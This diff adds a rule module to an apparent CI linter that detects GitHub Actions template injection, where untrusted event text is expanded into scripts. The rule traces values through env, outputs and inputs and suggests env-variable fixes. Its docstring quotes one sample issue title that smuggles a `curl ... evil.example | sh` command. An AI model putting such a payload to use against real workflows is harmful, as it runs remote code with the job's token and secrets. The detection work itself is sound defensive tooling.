@@ -1,0 +1,536 @@
+from __future__ import annotations
+
+import re
+from dataclasses import dataclass, field
+
+from cicdlint.contexts import classify, matrix_is_static
+from cicdlint.envfiles import entries, writes
+from cicdlint.expressions import find_expressions, path_of
+from cicdlint.model import as_map, as_scalar, as_seq, text
+from cicdlint.rule import Issue, Location, rule
+from cicdlint.shell import parse, variable_refs
+from cicdlint.triggers import events, input_type
+from cicdlint.yamlpos import Scalar
+
+# Actions whose input is code: (input, language).
+CODE_INPUTS = {
+    "actions/github-script": ("script", "js"),
+    "azure/cli": ("inlineScript", "shell"),
+    "azure/powershell": ("inlineScript", "pwsh"),
+    "amadevus/pwsh-script": ("script", "pwsh"),
+    "jannekem/run-python-script-action": ("script", "python"),
+    "cardinalby/js-eval-action": ("expression", "js"),
+}
+SAFE_INPUT_TYPES = ("boolean", "number", "choice")
+
+# Events whose payload holds an untrusted field; a workflow that none of them starts sees it empty.
+PR_EVENTS = ("pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment")
+FIELD_EVENTS = [
+    ("github.head_ref", PR_EVENTS),
+    ("github.event.pull_request.", PR_EVENTS),
+    ("github.event.issue.", ("issues", "issue_comment")),
+    ("github.event.comment.", ("issue_comment", "pull_request_review_comment", "commit_comment", "discussion_comment")),
+    ("github.event.review.", ("pull_request_review",)),
+    ("github.event.discussion.", ("discussion", "discussion_comment")),
+    ("github.event.answer.", ("discussion",)),
+    ("github.event.pages.", ("gollum",)),
+    ("github.event.commits.", ("push",)),
+    ("github.event.head_commit.", ("push",)),
+    ("github.event.workflow_run.", ("workflow_run",)),
+    ("github.event.check_suite.", ("check_suite",)),
+    ("github.event.check_run.", ("check_run",)),
+    ("github.event.merge_group.", ("merge_group",)),
+]
+# Fork pull request events run the fork's own workflow file with no secrets: an injection there
+# gives an attacker little they did not have.
+UNPRIVILEGED_PR_EVENTS = ("pull_request", "pull_request_review", "pull_request_review_comment")
+RUNNER_VARIABLES = {
+    "github.head_ref": "GITHUB_HEAD_REF",
+    "github.base_ref": "GITHUB_BASE_REF",
+    "github.ref": "GITHUB_REF",
+    "github.ref_name": "GITHUB_REF_NAME",
+    "github.actor": "GITHUB_ACTOR",
+    "github.triggering_actor": "GITHUB_TRIGGERING_ACTOR",
+    "github.repository": "GITHUB_REPOSITORY",
+    "github.event_name": "GITHUB_EVENT_NAME",
+}
+LEVELS = {"safe": 0, "opaque": 1, "unknown": 2, "untrusted": 3}
+
+
+@rule(
+    id="template-injection",
+    kinds=("workflow", "action"),
+    severity="error",
+    summary="Attacker-controllable text is expanded with `${{ }}` into a script",
+    tags=("security", "injection"),
+    security_severity=9.0,
+    confidence="high",
+)
+def check(doc, ctx):
+    """## What it does
+    Finds `${{ }}` expressions whose text an outsider controls, expanded into code: `run:`
+    scripts (workflows and composite actions), the `script:` of `actions/github-script` (and the
+    code inputs of `azure/cli`, `azure/powershell`, `amadevus/pwsh-script`,
+    `jannekem/run-python-script-action`, `cardinalby/js-eval-action`) and the `script:` of SSH
+    deploy actions such as `appleboy/ssh-action`.
+
+    - Error: a context anyone can set, such as `github.event.issue.title`,
+      `github.event.pull_request.body`, `github.event.comment.body`, `github.head_ref` or
+      `github.event.head_commit.message`, also through `format()`, `join()`, `toJSON()` or `||`.
+      One hop is followed where it is clear: `${{ env.NAME }}` when `NAME` is set (step, job or
+      workflow `env:`, or `$GITHUB_ENV` in an earlier step) from such a context,
+      `${{ steps.ID.outputs.NAME }}` when step `ID` writes the output from one, and
+      `${{ needs.JOB.outputs.NAME }}` through the job's outputs. Medium confidence when only
+      `pull_request` events deliver the text (a fork's run has no secrets); not reported when
+      none of the workflow's triggers delivers it (the value is empty).
+    - Note (low confidence): other text that is not constant: workflow and action inputs
+      (`inputs.*`, `github.event.inputs.*`) except inputs of type `boolean`, `number` and
+      `choice`, `repository_dispatch` payloads, branch and tag names (`github.ref_name`),
+      release and label text, step and job outputs not traced to a constant.
+
+    Contexts with a fixed format (SHAs, ids, numbers, `github.repository`, logins) and
+    expressions that only compare (`${{ github.event.issue.title == 'bug' }}`) are not reported.
+    Passing a value through `env:` and using it as `"$VAR"` in the script is the fix, so shell
+    variables are never reported here.
+
+    ## Why is this bad?
+    GitHub replaces `${{ }}` in the script's text before the shell (or Node, or Python) parses
+    it, so quotes do not protect the value. An issue titled `a"; curl -sSf evil.example | sh; "`
+    turns `echo "${{ github.event.issue.title }}"` into a command that runs with the job's token
+    and secrets. In `pull_request_target`, `issue_comment` and `workflow_run` workflows that
+    token can usually write to the repository.
+
+    ## Example
+    ```yaml
+    on:
+      issues:
+        types: [opened]
+    jobs:
+      triage:
+        runs-on: ubuntu-latest
+        steps:
+          - run: echo "New issue: ${{ github.event.issue.title }}"
+          - uses: actions/github-script@v7
+            with:
+              script: |
+                console.log("${{ github.event.issue.body }}")
+    ```
+
+    ## Use instead
+    ```yaml
+    on:
+      issues:
+        types: [opened]
+    jobs:
+      triage:
+        runs-on: ubuntu-latest
+        steps:
+          - run: echo "New issue: $TITLE"
+            env:
+              TITLE: ${{ github.event.issue.title }}
+          - uses: actions/github-script@v7
+            with:
+              script: |
+                console.log(context.payload.issue.body)
+    ```
+    Put the expression in an `env:` entry and use the variable in the script (`"$TITLE"` in
+    bash, `$env:TITLE` in PowerShell, `process.env.TITLE` in JavaScript); in
+    `actions/github-script` read event fields from `context.payload`.
+    """
+    workflow = ctx.workflow if doc.kind == "workflow" else None
+    triggers = events(workflow) if workflow is not None else None
+    resolver = _Resolver(ctx, workflow)
+    for step in ctx.steps():
+        for scalar, language, where in _code(step):
+            if "${{" not in scalar.value:
+                continue
+            for expression in find_expressions(scalar.value):
+                origin = None
+                for path in expression.flowing_contexts():
+                    candidate = resolver.resolve(path, step, step.job)
+                    if candidate.level == "untrusted" and not _delivered(candidate.source, triggers):
+                        continue
+                    if origin is None or LEVELS[candidate.level] > LEVELS[origin.level]:
+                        origin = candidate
+                if origin is None or origin.level in ("safe", "opaque"):
+                    continue
+                span = ctx.locate(scalar, expression.start, expression.length)
+                yield _issue(ctx, step, expression, origin, language, where, span, triggers)
+
+
+# --- where code is ---------------------------------------------------------------------------------
+
+
+def _code(step):
+    """(scalar, language, where) for each piece of code in the step."""
+    found = []
+    for scalar, where in step.scripts():
+        found.append((scalar, "pwsh" if where == "run" and _is_pwsh(step) else "shell", where))
+    uses = step.uses
+    if uses is not None and "@" in uses.value:
+        target = uses.value.split("@", 1)[0].lower()
+        for action, (name, language) in CODE_INPUTS.items():
+            if target == action:
+                script = step.input(name)
+                if script is not None:
+                    found.append((script, language, action))
+    return found
+
+
+def _is_pwsh(step) -> bool:
+    shell = step.shell
+    if shell is None and step.job is not None:
+        for owner in (step.job.node, step.job.workflow.node):
+            defaults = as_map(owner.get("defaults"))
+            run = as_map(defaults.get("run")) if defaults else None
+            if run is not None and text(run.get("shell")):
+                shell = text(run.get("shell"))
+                break
+    if shell is not None:
+        return shell.split()[0].lower() in ("pwsh", "powershell") if shell.split() else False
+    if step.job is None:
+        return False
+    runs_on = step.job.node.get("runs-on")
+    labels = [runs_on.value] if as_scalar(runs_on) else [text(item) or "" for item in as_seq(runs_on)]
+    return any("windows" in (label or "").lower() for label in labels)
+
+
+# --- how far a context can be trusted --------------------------------------------------------------
+
+
+@dataclass
+class Origin:
+    level: str  # untrusted | unknown | opaque | safe
+    source: str  # the context path the text comes from
+    reason: str = ""
+    hops: list = field(default_factory=list)  # [(description, node)] from the expanded path to the source
+
+
+SAFE = Origin("safe", "")
+
+
+class _Resolver:
+    def __init__(self, ctx, workflow):
+        self.ctx = ctx
+        self.workflow = workflow
+
+    def resolve(self, path: str, step, job, depth: int = 0) -> Origin:
+        parts = path.split(".")
+        head = parts[0]
+        if head == "env" and len(parts) >= 2 and parts[1] != "*":
+            return self._env(parts[1], step, job, depth)
+        if head == "steps" and len(parts) >= 4 and parts[2] == "outputs" and parts[1] != "*":
+            if parts[3] == "*":
+                return Origin("opaque", path)
+            return self._step_output(path, parts[1], parts[3], step, job, depth)
+        if head == "steps" and len(parts) >= 2 and parts[1] != "*" and len(parts) < 4 and classify(path).level != "safe":
+            return Origin("opaque", path)
+        if head in ("needs", "jobs") and len(parts) >= 4 and parts[2] == "outputs":
+            return self._job_output(path, parts[1], parts[3], depth)
+        if head == "inputs" and len(parts) >= 2:
+            return self._input(path, parts[1], typed=True)
+        if path.startswith("github.event.inputs.") and len(parts) >= 4:
+            return self._input(path, parts[3], typed=True, dispatch=True)
+        if head == "matrix":
+            key = parts[1] if len(parts) > 1 and parts[1] != "*" else None
+            if job is None or matrix_is_static(job, key):
+                return SAFE
+            return Origin("opaque", path, "a matrix value computed at run time")
+        verdict = classify(path)
+        if verdict.level == "unknown" and head in ("steps", "needs", "jobs", "env"):
+            return Origin("opaque", path, verdict.reason)
+        return Origin(verdict.level, path, verdict.reason)
+
+    # env.NAME
+
+    def _env(self, name: str, step, job, depth: int) -> Origin:
+        env = step.env if step is not None else (job.env if job is not None else {})
+        variable = env.get(name) or next((var for key, var in env.items() if key.lower() == name.lower()), None)
+        if variable is not None:
+            value = variable.value
+            if not isinstance(value, Scalar):
+                return Origin("opaque", f"env.{name}")
+            found = self._text(value.value, step, job, depth)
+            return _hop(found, f"env.{name}", value)
+        if step is not None and job is not None and depth < 3:
+            earlier = self._github_env(name, step, job, depth)
+            if earlier is not None:
+                return earlier
+        return Origin("opaque", f"env.{name}", "an environment variable set at run time")
+
+    def _github_env(self, name: str, step, job, depth: int) -> Origin | None:
+        """env.NAME written to $GITHUB_ENV by an earlier step of the job."""
+        found = None
+        for earlier in job.steps:
+            if earlier is step:
+                break
+            for scalar, where in earlier.scripts():
+                if where != "run" or name not in scalar.value:
+                    continue
+                for entry in entries(writes(scalar.value), "GITHUB_ENV"):
+                    if entry.name != name:
+                        continue
+                    origin = _hop(
+                        self._parts(entry.parts, scalar.value, earlier, job, depth),
+                        f"env.{name}",
+                        scalar,
+                        "written to $GITHUB_ENV by an earlier step",
+                    )
+                    if found is None or LEVELS[origin.level] > LEVELS[found.level]:
+                        found = origin
+        return found
+
+    # steps.ID.outputs.NAME
+
+    def _step_output(self, path: str, step_id: str, name: str, step, job, depth: int) -> Origin:
+        steps = job.steps if job is not None else (step.action.steps() if step is not None and step.action else [])
+        producer = next((candidate for candidate in steps if candidate.id == step_id), None)
+        if producer is None or depth >= 3:
+            return Origin("opaque", path, "a step output")
+        if producer.run is None:
+            return Origin("opaque", path, "an output of an action")
+        script = producer.run.value
+        origin = None
+        for entry in entries(writes(script), "GITHUB_OUTPUT"):
+            if entry.name != name:
+                continue
+            found = self._parts(entry.parts, script, producer, job, depth)
+            if origin is None or LEVELS[found.level] > LEVELS[origin.level]:
+                origin = found
+        if origin is None:
+            return Origin("opaque", path, "a step output")
+        return _hop(origin, path, producer.run, f"written by step '{step_id}'")
+
+    # needs.JOB.outputs.NAME
+
+    def _job_output(self, path: str, job_id: str, name: str, depth: int) -> Origin:
+        producer = self.workflow.job(job_id) if self.workflow is not None else None
+        outputs = producer.outputs if producer is not None else None
+        value = outputs.get(name) if outputs is not None else None
+        if not isinstance(value, Scalar) or depth >= 3:
+            return Origin("opaque", path, "a job output")
+        found = self._text(value.value, None, producer, depth)
+        return _hop(found, path, value, f"an output of job '{job_id}'")
+
+    # inputs
+
+    def _input(self, path: str, name: str, typed: bool, dispatch: bool = False) -> Origin:
+        if self.workflow is None:
+            return Origin("unknown", path, "an input of the action: its caller chooses the text")
+        kind = input_type(self.workflow, name)
+        if kind in SAFE_INPUT_TYPES:
+            return SAFE
+        if dispatch:
+            return Origin("unknown", path, "a workflow_dispatch input: whoever runs the workflow chooses the text")
+        return Origin("unknown", path, "a workflow input: whoever runs or calls the workflow chooses the text")
+
+    # values
+
+    def _text(self, value: str, step, job, depth: int) -> Origin:
+        """The worst origin of the expressions in a text (an env value, a job output)."""
+        worst = SAFE
+        for expression in find_expressions(value):
+            for path in expression.flowing_contexts():
+                found = self.resolve(path, step, job, depth + 1)
+                if LEVELS[found.level] > LEVELS[worst.level]:
+                    worst = found
+        return worst
+
+    def _parts(self, parts, script: str, step, job, depth: int) -> Origin:
+        """The worst origin of a value written to a command file (expressions and $VARs in it)."""
+        worst = SAFE
+        assigned = None
+        for part in parts:
+            if part.kind != "text":
+                candidate = Origin("opaque", "", "computed at run time")
+            else:
+                candidate = self._text(part.text, step, job, depth)
+                if not part.quoted_heredoc:
+                    for variable, _, _, is_length in variable_refs(part.text):
+                        if is_length:
+                            continue
+                        if assigned is None:
+                            assigned = _assignments(script)
+                        if variable in assigned:
+                            found = self._text(assigned[variable], step, job, depth)
+                        elif step is not None and variable in step.env:
+                            found = self._env(variable, step, job, depth + 1)
+                        else:
+                            found = Origin("opaque", "", "computed at run time")
+                        if LEVELS[found.level] > LEVELS[candidate.level]:
+                            candidate = found
+                if "$(" in part.text or "`" in part.text:
+                    candidate = candidate if LEVELS[candidate.level] > 1 else Origin("opaque", "", "computed at run time")
+            if LEVELS[candidate.level] > LEVELS[worst.level]:
+                worst = candidate
+        return worst
+
+
+def _hop(origin: Origin, description: str, node, how: str = "") -> Origin:
+    if origin.level in ("safe", "opaque"):
+        return Origin(origin.level if origin.level == "safe" else "opaque", origin.source or description, origin.reason)
+    return Origin(origin.level, origin.source, origin.reason, [(description, node, how)] + origin.hops)
+
+
+def _assignments(script: str) -> dict[str, str]:
+    """Shell variables assigned in a script: name -> the assigned text (the last assignment)."""
+    found = {}
+    for command in parse(script):
+        words = list(command.assignments)
+        if command.name in ("export", "local", "declare", "readonly", "typeset"):
+            words += [word for word in command.args if "=" in word.text]
+        for word in words:
+            name, _, value = word.text.partition("=")
+            found[name.rstrip("+")] = value
+    return found
+
+
+def _delivered(source: str, triggers) -> bool:
+    """Can any of the workflow's triggers carry this untrusted field?"""
+    if triggers is None or not triggers or "workflow_call" in triggers:
+        return True
+    for prefix, carriers in FIELD_EVENTS:
+        if source == prefix or source.startswith(prefix):
+            return any(event in carriers for event in triggers)
+    return True
+
+
+def _only_unprivileged(source: str, triggers) -> bool:
+    if not triggers or "workflow_call" in triggers:
+        return False
+    for prefix, carriers in FIELD_EVENTS:
+        if source == prefix or source.startswith(prefix):
+            delivering = [event for event in triggers if event in carriers]
+            return bool(delivering) and all(event in UNPRIVILEGED_PR_EVENTS for event in delivering)
+    return False
+
+
+# --- messages --------------------------------------------------------------------------------------
+
+
+_WHO = [
+    ("github.event.issue.", "Anyone who can open an issue controls {path}"),
+    ("github.event.pull_request.head.repo.", "The owner of the pull request's fork sets {path}"),
+    ("github.event.pull_request.head.", "Anyone who opens a pull request chooses its branch name, {path}"),
+    ("github.head_ref", "Anyone who opens a pull request chooses its branch name, {path}"),
+    ("github.event.pull_request.", "Anyone who can open a pull request controls {path}"),
+    ("github.event.comment.", "Anyone who can comment controls {path}"),
+    ("github.event.review.", "Anyone who can review a pull request controls {path}"),
+    ("github.event.review_comment.", "Anyone who can review a pull request controls {path}"),
+    ("github.event.discussion.", "Anyone who can start a discussion controls {path}"),
+    ("github.event.answer.", "Anyone who can answer a discussion controls {path}"),
+    ("github.event.pages.", "Anyone who can edit the wiki controls {path}"),
+    ("github.event.changes.", "Anyone who can edit an issue or a pull request controls {path}"),
+    ("github.event.workflow_run.head_commit.", "Whoever writes the commits of the triggering run controls {path}"),
+    ("github.event.workflow_run.", "Whoever opens the pull request behind the triggering run controls {path}"),
+    ("github.event.commits.", "Whoever writes the commits (also commits merged from pull requests) controls {path}"),
+    ("github.event.head_commit.", "Whoever writes the commits (also commits merged from pull requests) controls {path}"),
+    ("github.event.merge_group.", "Whoever writes the commits of the merged pull requests controls {path}"),
+    ("github.event.check_suite.", "Whoever pushes the branch or commits being checked controls {path}"),
+    ("github.event.check_run.", "Whoever pushes the branch being checked controls {path}"),
+]
+
+
+def _who(source: str) -> str:
+    for prefix, sentence in _WHO:
+        if source == prefix or source.startswith(prefix):
+            return sentence.format(path=source)
+    return f"{source} is {classify(source).reason}"
+
+
+def _variable_name(path: str) -> str:
+    parts = [part for part in path.split(".") if part not in ("*", "")]
+    if parts[:2] == ["github", "event"]:
+        parts = parts[2:]
+        if parts and parts[0] in ("inputs", "client_payload") and len(parts) > 1:
+            parts = parts[1:]
+        if len(parts) > 2:
+            parts = parts[-2:]
+        if parts and parts[0] in ("commits",):
+            parts[0] = "commit"
+    elif parts and parts[0] in ("env", "inputs", "matrix", "vars"):
+        parts = parts[1:]
+    elif parts and parts[0] in ("steps", "needs", "jobs") and len(parts) >= 4:
+        parts = parts[3:]
+    else:
+        parts = parts[-1:]
+    name = re.sub(r"[^A-Za-z0-9]+", "_", "_".join(parts)).strip("_").upper() or "VALUE"
+    return ("V_" + name) if name[0].isdigit() else name
+
+
+def _use(language: str, name: str) -> str:
+    return {
+        "pwsh": f"$env:{name}",
+        "python": f'os.environ["{name}"]',
+        "js": f"process.env.{name}",
+    }.get(language, f'"${name}"')
+
+
+def _issue(ctx, step, expression, origin: Origin, language: str, where: str, span, triggers) -> Issue:
+    body = expression.body
+    shown = "${{ " + body + " }}"
+    single = path_of(expression.tree) if expression.tree is not None else None
+    related = []
+    for description, node, how in origin.hops:
+        what = f"{description} is {how}" if how else f"{description} is set here"
+        related.append(Location(ctx.doc.path, ctx.span(node), what))
+    fix = _fix(single, origin, body, language, where)
+    hops = [hop[0] for hop in origin.hops]
+    carried = ""
+    if hops:
+        carried = f", {hops[0]} is set from it" + (f" through {', '.join(hops[1:])}" if hops[1:] else "")
+    if origin.level == "untrusted":
+        tail = f"{_who(origin.source)}{carried}, and ${{{{ }}}} pastes it into the {_kind(language, where)} before it runs."
+        unprivileged = _only_unprivileged(origin.source, triggers)
+        if unprivileged:
+            tail += " Only pull_request events deliver it here, and a fork's run gets no secrets."
+        confidence = "medium" if unprivileged or _via_output(origin) else None
+        return Issue(span, f"{fix}. {tail}", confidence=confidence, related=related)
+    reason = origin.reason or classify(origin.source).reason
+    if hops:
+        tail = f"{origin.source} is {reason}{carried}"
+    elif single is not None and single == origin.source:
+        tail = f"It is {reason}"
+    else:
+        tail = f"{origin.source} is {reason}"
+    return Issue(
+        span,
+        f"{fix}. {tail}, and its text becomes part of the {_kind(language, where)}.",
+        severity="note",
+        confidence="low",
+        related=related,
+    )
+
+
+def _via_output(origin: Origin) -> bool:
+    return any(hop[0].startswith(("steps.", "needs.", "jobs.")) for hop in origin.hops)
+
+
+def _kind(language: str, where: str) -> str:
+    if where == "ssh":
+        return "remote shell script"
+    return {"js": "JavaScript", "python": "Python script", "pwsh": "PowerShell script"}.get(language, "shell script")
+
+
+def _fix(single: str | None, origin: Origin, body: str, language: str, where: str) -> str:
+    if single is not None and single.startswith("env.") and where == "run":
+        return f"Use {_use(language, single.split('.', 1)[1])} in the script instead of ${{{{ {body} }}}}"
+    if single in RUNNER_VARIABLES and language in ("shell", "pwsh") and where == "run":
+        name = RUNNER_VARIABLES[single]
+        return f"Use {_use(language, name)} (set by the runner) instead of expanding {single} in the script"
+    name = _variable_name(single or origin.source)
+    subject = single or f"${{{{ {body} }}}}"
+    if language == "js" and single is not None and single.startswith("github.event."):
+        return (
+            f"Read {single} from context.payload.{single[len('github.event.'):]} (or pass it through env: and "
+            f"process.env.{name}) instead of expanding it in the script"
+        )
+    if where == "ssh":
+        return (
+            f"Pass {subject} to the remote script through the step's env: ({name}: ${{{{ {body} }}}}) and the "
+            f"action's envs: input, then use \"${name}\", instead of expanding it in the script"
+        )
+    return (
+        f"Pass {subject} to the script through an environment variable (env: {name}: ${{{{ {body} }}}}, then "
+        f"{_use(language, name)}) instead of expanding it in the script"
+    )
